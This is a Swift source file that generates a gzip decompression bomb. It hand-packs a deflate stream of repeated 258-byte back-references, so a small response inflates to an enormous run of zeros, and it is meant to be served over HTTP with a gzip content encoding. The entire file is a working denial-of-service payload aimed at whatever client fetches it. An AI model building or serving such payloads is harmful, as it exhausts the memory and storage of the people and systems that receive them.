import Foundation

/// A gzip stream that inflates to about `inflatedBytes` zero bytes from about 1/160 of that:
/// one literal 0, then back-references of 258 bytes at distance 1 (fixed Huffman codes, RFC 1951).
/// The trailer's CRC is not computed: no client reads that far.
public enum GzipBomb {
  /// The compressed stream, to send with `Content-Encoding: gzip`.
  public static func data(inflatedBytes: Int) -> Data {
    var writer = BitWriter()
    writer.bytes = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]  // gzip header: deflate, no name, Unix
    writer.put(1, bits: 1)  // last block
    writer.put(1, bits: 2)  // fixed Huffman codes
    writer.code(0x30, bits: 8)  // literal 0
    let repeats = max(16, inflatedBytes / 258)
    // 8 references take 104 bits, 13 whole bytes: after the first 8 the bytes repeat.
    for _ in 0..<8 { writer.reference() }
    let unitStart = writer.bytes.count
    for _ in 0..<8 { writer.reference() }
    let unit = Array(writer.bytes[unitStart...])
    for _ in 0..<(repeats / 8 - 2) { writer.bytes += unit }
    for _ in 0..<(repeats % 8) { writer.reference() }
    writer.code(0, bits: 7)  // end of block
    writer.flush()
    writer.bytes += [0, 0, 0, 0]  // CRC-32 (not computed)
    let size = UInt32(truncatingIfNeeded: 1 + repeats * 258)
    writer.bytes += (0..<4).map { UInt8(truncatingIfNeeded: size >> (8 * $0)) }
    return Data(writer.bytes)
  }

  /// Writes bits least significant first, as deflate packs them.
  private struct BitWriter {
    var bytes: [UInt8] = []
    private var buffer: UInt32 = 0
    private var count = 0

    mutating func put(_ value: UInt32, bits: Int) {
      buffer |= value << UInt32(truncatingIfNeeded: count)
      count += bits
      while count >= 8 {
        bytes.append(UInt8(truncatingIfNeeded: buffer))
        buffer >>= 8
        count -= 8
      }
    }

    /// A Huffman code: most significant bit first.
    mutating func code(_ value: UInt32, bits: Int) {
      for bit in stride(from: bits - 1, through: 0, by: -1) {
        put((value >> UInt32(truncatingIfNeeded: bit)) & 1, bits: 1)
      }
    }

    /// Length 258 (symbol 285, code 11000101) at distance 1 (distance code 0, 5 bits).
    mutating func reference() {
      code(0xC5, bits: 8)
      code(0, bits: 5)
    }

    mutating func flush() {
      if count > 0 { put(0, bits: 8 - count) }
    }
  }
}
